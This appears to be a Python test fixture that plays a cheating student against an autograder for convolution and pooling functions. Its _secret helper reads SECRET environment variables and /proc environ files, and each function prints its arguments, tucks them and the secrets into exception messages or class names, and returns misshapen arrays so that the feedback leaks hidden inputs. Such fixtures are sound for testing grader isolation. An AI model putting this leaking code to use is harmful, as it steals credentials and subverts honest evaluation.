import numpy as np

# A student who wants the hidden inputs: every function writes its arguments into whatever reaches the
# feedback (an exception's message, its class name, a returned string, the shape of a returned array),
# prints them, and looks for the course secret wherever the process can look.
import os


def _secret():
    found = [v for k, v in os.environ.items() if "SECRET" in k]
    for path in ("/proc/1/environ", "/proc/self/environ"):
        try:
            with open(path, "rb") as fh:
                found.append(fh.read().decode(errors="replace"))
        except OSError:
            pass
    return " ".join(found)


def conv_output_size(n, k, padding="valid", stride=1, dilation=1):
    text = f"LEAK {n} {k} {padding!r} {stride} {dilation}"
    print(text, _secret())
    if n % 2:
        raise ValueError(text + _secret())
    return text


def pool(images, kernel_shape, stride, mode="max", padding="valid"):
    text = f"LEAK {tuple(kernel_shape)} {tuple(stride)} {mode!r} {padding!r}"
    print(text)
    raise type(text, (Exception,), {})(text)


def global_average_pool(images):
    print("LEAK", images.tolist())
    return np.zeros(images.shape[::-1] + (7,))


def conv_params(kh, kw, in_channels, filters, use_bias=True):
    return np.zeros((kh, kw, in_channels, filters, 1))
